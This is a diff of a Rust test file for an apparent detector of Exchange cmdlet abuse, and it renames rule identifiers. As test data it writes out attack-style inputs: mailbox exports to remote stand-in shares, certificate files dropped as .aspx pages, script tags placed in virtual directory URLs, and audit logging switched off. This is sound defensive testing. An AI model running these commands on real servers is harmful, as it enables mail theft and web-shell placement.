@@ -23,7 +23,7 @@ fn exports_to_where_pages_run_are_told_from_exports_of_administrators() {
     let export = |path: &str| {
         let text = format!("-Mailbox \"Administrator\" -IncludeFolders (\"#Drafts#\") -FilePath \"{path}\"");
         shown("New-MailboxExportRequest", &text).map(|(id, stage, level)| {
-            assert!(id.starts_with("mailbox_export"));
+            assert!(id.starts_with("cmdlet/mailbox_export"));
             (stage, level)
         })
     };
@@ -52,7 +52,7 @@ fn exports_to_where_pages_run_are_told_from_exports_of_administrators() {
     assert_eq!(export(r"\\203.0.113.7\pst\alice.pst"), Some((Stage::DataRead, Level::High)));
     assert_eq!(export(r"\\files.example.org@SSL\dav\alice.pst"), Some((Stage::DataRead, Level::High)));
     let away = shown("New-MailboxExportRequest", r"-FilePath \\203.0.113.7\pst\alice.pst");
-    assert_eq!(away.map(|shown| shown.0), Some("mailbox_export_share"));
+    assert_eq!(away.map(|shown| shown.0), Some("cmdlet/mailbox_export_share"));
     for path in [r"\\ex1\pst\alice.pst", r"D:\pst\alice.pst", ""] {
         assert_eq!(export(path), None, "{path}");
     }
@@ -74,7 +74,7 @@ fn exports_to_where_pages_run_are_told_from_exports_of_administrators() {
 
 #[test]
 fn removing_an_export_request_belongs_to_the_story_only_if_nobody_was_asked() {
-    let context = Some(("mailbox_export", Stage::Context, Level::Info));
+    let context = Some(("cmdlet/mailbox_export", Stage::Context, Level::Info));
     assert_eq!(shown("Remove-MailboxExportRequest", r#"-Identity "a\b" -Confirm "False""#), context);
     assert_eq!(shown("Remove-MailboxExportRequest", r"-Identity a -Confirm:$false"), context);
     assert_eq!(shown("Remove-MailboxExportRequest", r#"-Identity "a\b""#), None);
@@ -82,7 +82,7 @@ fn removing_an_export_request_belongs_to_the_story_only_if_nobody_was_asked() {
 
 #[test]
 fn rights_over_all_mail_are_told() {
-    let set = Some(("role_assignment", Stage::ConfigurationChanged, Level::Medium));
+    let set = Some(("cmdlet/export_role_assigned", Stage::ConfigurationChanged, Level::Medium));
     for role in ["Mailbox Import Export", "mailbox import export", r"example.local\Mailbox Import Export"] {
         assert_eq!(shown("New-ManagementRoleAssignment", &format!(r#"-Role "{role}" -User "x""#)), set, "{role}");
     }
@@ -95,11 +95,11 @@ fn rights_over_all_mail_are_told() {
 fn certificate_requests_that_are_pages_are_told() {
     let new =
         |file: &str| shown("New-ExchangeCertificate", &format!(r#"-GenerateRequest "True" -RequestFile "{file}""#));
-    let page = Some(("certificate_drop", Stage::CodeExecutionOrFileWrite, Level::Critical));
+    let page = Some(("cmdlet/certificate_file_drop", Stage::CodeExecutionOrFileWrite, Level::Critical));
     assert_eq!(new(r"\\127.0.0.1\C$\ProgramData\x.aspx"), page);
     assert_eq!(
         new(r"C:\inetpub\wwwroot\aspnet_client\x.req"),
-        Some(("certificate_drop", Stage::CodeExecutionOrFileWrite, Level::High))
+        Some(("cmdlet/certificate_file_drop", Stage::CodeExecutionOrFileWrite, Level::High))
     );
     assert_eq!(shown("Export-ExchangeCertificate", r"-FileName \\localhost\c$\x.aspx"), page);
     for ordinary in [r"\\ex1\c$\certs\mail.req", r"\\fs1\certs\mail.cer", r"C:\certs\mail.txt"] {
@@ -112,7 +112,7 @@ fn script_in_a_virtual_directory_is_told_however_it_is_written() {
     let set = |value: &str| {
         shown("Set-OabVirtualDirectory", &format!(r#"-ExternalUrl "{value}" -Identity "EX1\OAB (Default Web Site)""#))
     };
-    let told = Some(("directory_script", Stage::ConfigurationChanged, Level::High));
+    let told = Some(("cmdlet/virtual_directory_script", Stage::ConfigurationChanged, Level::High));
     for value in [
         r#"http://f/<script language="JScript" runat="server">inert</script>"#,
         r#"http://f/<%@ Page Language="Jscript"%><%inert%>"#,
@@ -140,18 +140,21 @@ fn virtual_directories_outside_of_exchange_are_told() {
         |path: &str| shown("New-OabVirtualDirectory", &format!(r#"-WebSiteName "Default Web Site" -Path "{path}""#));
     assert_eq!(
         new(r"\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\x.aspx"),
-        Some(("directory_path", Stage::CodeExecutionOrFileWrite, Level::Critical))
+        Some(("cmdlet/virtual_directory_path", Stage::CodeExecutionOrFileWrite, Level::Critical))
     );
-    assert_eq!(new(r"C:\ProgramData\oab"), Some(("directory_path", Stage::ConfigurationChanged, Level::Medium)));
+    assert_eq!(
+        new(r"C:\ProgramData\oab"),
+        Some(("cmdlet/virtual_directory_path", Stage::ConfigurationChanged, Level::Medium))
+    );
     assert_eq!(
         new(r"C:\Program Files\Microsoft\Exchange Server\V15\..\..\..\..\x"),
-        Some(("directory_path", Stage::ConfigurationChanged, Level::Medium))
+        Some(("cmdlet/virtual_directory_path", Stage::ConfigurationChanged, Level::Medium))
     );
     assert_eq!(new(r"C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB"), None);
     assert_eq!(shown("New-OabVirtualDirectory", r#"-Server "EX1""#), None);
     assert_eq!(
         shown("Remove-OabVirtualDirectory", r#"-Identity "EX1\OAB""#),
-        Some(("directory_path", Stage::Context, Level::Info))
+        Some(("cmdlet/virtual_directory_path", Stage::Context, Level::Info))
     );
     assert_eq!(shown("Remove-OwaVirtualDirectory", r#"-Identity "EX1\owa""#), None);
 }
@@ -159,7 +162,10 @@ fn virtual_directories_outside_of_exchange_are_told() {
 #[test]
 fn foreign_transport_agents_are_told() {
     let install = |path: &str| shown("Install-TransportAgent", &format!(r#"-Name "a" -AssemblyPath "{path}""#));
-    assert_eq!(install(r"C:\ProgramData\a.dll"), Some(("transport_agent", Stage::ConfigurationChanged, Level::Medium)));
+    assert_eq!(
+        install(r"C:\ProgramData\a.dll"),
+        Some(("cmdlet/transport_agent_installed", Stage::ConfigurationChanged, Level::Medium))
+    );
     let own = r"C:\Program Files\Microsoft\Exchange Server\V15\TransportRoles\agents\Hygiene\a.dll";
     assert_eq!(install(own), None);
     assert_eq!(shown("Enable-TransportAgent", r#"-Identity "a""#), None);
@@ -167,7 +173,7 @@ fn foreign_transport_agents_are_told() {
 
 #[test]
 fn what_is_switched_off_is_told() {
-    let off = Some(("protection_off", Stage::ConfigurationChanged, Level::Medium));
+    let off = Some(("cmdlet/protection_disabled", Stage::ConfigurationChanged, Level::Medium));
     assert_eq!(shown("Set-AdminAuditLogConfig", r#"-AdminAuditLogEnabled "False""#), off);
     assert_eq!(shown("Set-AdminAuditLogConfig", r"-AdminAuditLogEnabled:$false"), off);
     assert_eq!(shown("Set-ExchangeServer", r#"-Identity "EX1" -MitigationsEnabled "False""#), off);
@@ -183,7 +189,7 @@ fn what_is_switched_off_is_told() {
 
 #[test]
 fn mail_that_goes_elsewhere_is_told_by_how_far_and_how_hidden() {
-    let told = |level| Some(("mail_forwarding", Stage::ConfigurationChanged, level));
+    let told = |level| Some(("cmdlet/mail_forwarding", Stage::ConfigurationChanged, level));
     for (cmdlet, text, expected) in [
         (
             "Set-Mailbox",
@@ -228,7 +234,7 @@ fn mail_that_goes_elsewhere_is_told_by_how_far_and_how_hidden() {
 
 #[test]
 fn access_to_the_mail_of_others_is_told() {
-    let told = |level| Some(("mailbox_access", Stage::ConfigurationChanged, level));
+    let told = |level| Some(("cmdlet/mailbox_permission_added", Stage::ConfigurationChanged, level));
     for (cmdlet, text, expected) in [
         ("Add-MailboxPermission", r#"-Identity "alice" -User "bob" -AccessRights "FullAccess""#, told(Level::Low)),
         (
@@ -254,7 +260,7 @@ fn access_to_the_mail_of_others_is_told() {
 
 #[test]
 fn whoever_becomes_an_administrator_is_told() {
-    let told = |level| Some(("role_group", Stage::ConfigurationChanged, level));
+    let told = |level| Some(("cmdlet/role_group_member_added", Stage::ConfigurationChanged, level));
     for (cmdlet, text, expected) in [
         ("Add-RoleGroupMember", r#"-Identity "Organization Management" -Member "bob""#, told(Level::Medium)),
         (
